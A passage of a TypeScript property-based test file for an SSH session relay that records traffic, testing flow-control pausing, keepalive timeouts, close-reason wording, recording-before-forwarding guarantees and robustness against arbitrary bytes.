  test('property: whenever nothing is behind any more, nothing is paused', async () => {
    const step = fc.constantFrom(
      'client behind',
      'target behind',
      'client reads',
      'target reads',
      'down',
      'up',
      'backlog',
      'written',
    )
    await fc.assert(
      fc.asyncProperty(fc.array(step, { maxLength: 40 }), async steps => {
        world = await RelayWorld.start()
        openChannel()
        for (const name of steps) {
          if (name === 'client behind') world.client.congested = true
          if (name === 'target behind') world.target.congested = true
          if (name === 'client reads') world.client.drain()
          if (name === 'target reads') world.target.drain()
          if (name === 'down' && !world.target.paused) world.fromTarget(data(at, 'x'))
          if (name === 'up' && !world.client.paused) world.fromClient(data(at, 'x'))
          if (name === 'backlog') world.recording.backlogBytes = 1 << 30
          if (name === 'written') await world.recording.drained()
        }
        world.client.drain()
        world.target.drain()
        await world.recording.drained()
        expect([world.client.paused, world.target.paused]).toEqual([false, false])
        world.session.end({ reason: 'done', userText: '' })
      }),
      { numRuns: 200 },
    )
  })
})

describe('keep-alives', () => {
  const pass = (intervals: number): void => void vi.advanceTimersByTime(30_000 * intervals)

  test('are sent to both ends', () => {
    pass(1)
    expect(world.client.take()).toMatchObject([{ name: 'keepalive@openssh.com', wantReply: true }])
    expect(world.target.take()).toMatchObject([{ name: 'keepalive@openssh.com', wantReply: true }])
  })

  test('that nobody answers end the session', () => {
    pass(4)
    expect(world.endReason).toMatch(/no longer answers/)
  })

  test('that are answered late do not, while the peer says anything at all', () => {
    openChannel()
    for (let interval = 0; interval < 20; interval++) {
      pass(1)
      world.fromClient(adjust(at, 1))
      world.fromTarget(encodeRequestFailure())
    }
    expect(world.endReason).toBeUndefined()
    for (let late = 0; late < 20; late++) world.fromClient(encodeRequestFailure())
    expect(world.endReason).toBeUndefined()
    world.fromClient(encodeRequestFailure())
    expect(world.endReason).toContain('nobody asked')
  })

  test('blame the end that holds the other back, and not the one that we do not read', () => {
    openChannel()
    world.client.congested = true
    world.fromTarget(data(at, 'x'))
    pass(4)
    expect(world.endReason).toBe('the client no longer answers')
  })

  test('stop with the session', () => {
    world.session.end({ reason: 'over', userText: '' })
    const before = world.client.raw.length
    pass(10)
    expect(world.client.raw.length).toBe(before)
  })

  test('do not count as use: an idle session stays idle', () => {
    openChannel()
    world.ground.clock.advance(5000)
    world.fromClient(
      encodeGlobalRequest('keepalive@openssh.com', true, none),
      request(at, 'keepalive@openssh.com', true),
    )
    expect(world.session.idleMs).toBe(5000)
  })
})

describe('when one side goes away', () => {
  const why = { kind: 'peer', reason: undefined, text: '' } as const

  test('what the target sent before still reaches the client', () => {
    openChannel()
    world.relay.fromTarget(data(at, 'last words'), 1)
    world.relay.targetClosed(why)
    world.recording.commit()
    expect(world.client.take()).toMatchObject([{ data: Buffer.from('last words') }])
    expect(world.client.goodbyes).toMatchObject([{ text: 'The target closed the connection.' }])
  })

  test('what the client sent before still reaches the target', () => {
    openChannel()
    world.relay.fromClient(data(at, 'last words'), 1)
    world.relay.clientClosed(why)
    world.recording.commit()
    expect(world.target.take()).toMatchObject([{ data: Buffer.from('last words') }])
    expect(world.endReason).toBe('the client closed the connection')
  })

  test.each([
    ['disconnect', 'the client said goodbye'],
    ['protocol', 'the client broke the rules of SSH'],
    ['timeout', 'the client took too long to exchange keys'],
    ['local', 'the gateway cut the client off'],
  ] as const)('the record says how in words (%s)', (kind, text) => {
    world.relay.clientClosed({ ...why, kind })
    world.recording.commit()
    expect(world.endReason).toBe(text)
  })
})

describe('record, then forward', () => {
  /** What the recording must hold before a payload goes out, by what it says. */
  function described(payload: Buffer, to: 'client' | 'target'): boolean {
    const events = world.recording.committed
    const bytes = (type: 'input' | 'output' | 'error-output'): number =>
      events.reduce((sum, event) => sum + (event.type === type ? event.data.length : 0), 0) +
      events.reduce(
        (most, event) =>
          event.type === 'progress' && event.stream === type
            ? Math.max(most, event.bytes - event.from)
            : most,
        0,
      )
    const counted = events.reduce((sum, event) => sum + (event.type === 'input-count' ? event.bytes : 0), 0)
    sent[to] += payload[0] === messageNumber.data ? payload.readUInt32BE(5) : 0
    sent.stderr += payload[0] === messageNumber.extendedData ? payload.readUInt32BE(9) : 0
    switch (payload[0]) {
      case messageNumber.data:
        return to === 'target' ? bytes('input') + counted >= sent.target : bytes('output') >= sent.client
      case messageNumber.extendedData:
        return bytes('error-output') >= sent.stderr
      case messageNumber.channelOpen:
        return events.some(event => event.type === 'channel-open')
      case messageNumber.openFailure:
        return events.some(event => event.type === 'request-refused')
      case messageNumber.endOfFile:
        return events.some(event => event.type === (to === 'target' ? 'end-of-input' : 'end-of-output'))
      case messageNumber.channelRequest: {
        const name = payload.toString('latin1', 9, 9 + payload.readUInt32BE(5))
        const types: Record<string, string> = {
          'pty-req': 'pty',
          exec: 'exec',
          shell: 'shell',
          env: 'env',
          signal: 'signal',
          break: 'signal',
          'window-change': 'resize',
          'exit-status': 'exit-status',
          'exit-signal': 'exit-signal',
        }
        return types[name] === undefined || events.some(event => event.type === types[name])
      }
      default:
        return true
    }
  }
  let sent = { client: 0, target: 0, stderr: 0 }

  const clientMessage = fc.oneof(
    fc.string({ maxLength: 20 }).map(text => data(at, text)),
    fc.constantFrom(
      pty(at),
      shell(at),
      exec(at, 'id'),
      env(at, 'LANG', 'C'),
      env(at, 'PATH', '/'),
      resize(at, 10, 10),
      eof(at),
      close(at),
      adjust(at, 9),
      open(5),
      open(6, { type: 'x11' }),
      request(at, 'signal', false, string('INT')),
      request(at, 'break', true, uint32(5)),
      request(at, 'keepalive@openssh.com', true),
      request(at, 'nonsense', true),
    ),
  )
  const targetMessage = fc.oneof(
    fc.string({ maxLength: 20 }).map(text => data(at, text)),
    fc.string({ maxLength: 20 }).map(text => stderr(at, text)),
    fc.constantFrom(
      success(at),
      failure(at),
      eof(at),
      close(at),
      adjust(at, 9),
      open(5),
      confirm(1, 9),
      openFailed(1),
      request(at, 'exit-status', false, uint32(0)),
      exitSignal(at, 'TERM'),
      request(at, 'xon-xoff', false, Buffer.from([1])),
    ),
  )
  const turn = fc.array(
    fc.oneof(
      clientMessage.map(payload => ['client', payload] as const),
      targetMessage.map(payload => ['target', payload] as const),
    ),
    { maxLength: 6 },
  )

  test('property: when a payload is sent, all that describes it is with the operating system', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(turn, { maxLength: 12 }), async turns => {
        sent = { client: 0, target: 0, stderr: 0 }
        world = await RelayWorld.start({ keepOutputBytes: 30 })
        openChannel()
        world.client.onSend = payload => expect(described(payload, 'client')).toBe(true)
        world.target.onSend = payload => expect(described(payload, 'target')).toBe(true)
        for (const messages of turns) {
          for (const [from, payload] of messages) {
            if (from === 'client') world.relay.fromClient(payload, 0)
            else world.relay.fromTarget(payload, 0)
          }
          world.recording.commit()
        }
        world.session.end({ reason: 'done', userText: '' })
      }),
      { numRuns: 500 },
    )
  })

  test('property: whatever bytes come from either side, the relay throws nothing', async () => {
    const bytes = fc
      .tuple(fc.integer({ min: 80, max: 100 }), fc.uint8Array({ maxLength: 60 }))
      .map(([number, rest]) => Buffer.from([number, ...rest]))
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(fc.boolean(), bytes), { maxLength: 20 }), async messages => {
        world = await RelayWorld.start()
        openChannel()
        for (const [fromClient, payload] of messages)
          if (fromClient) world.fromClient(payload)
          else world.fromTarget(payload)
        world.session.end({ reason: 'done', userText: '' })
      }),
      { numRuns: 500 },
    )
  })
})

function permutations<T>(items: readonly T[]): T[][] {
  if (items.length === 0) return [[]]
  return items.flatMap((item, index) => permutations(items.toSpliced(index, 1)).map(rest => [item, ...rest]))
}
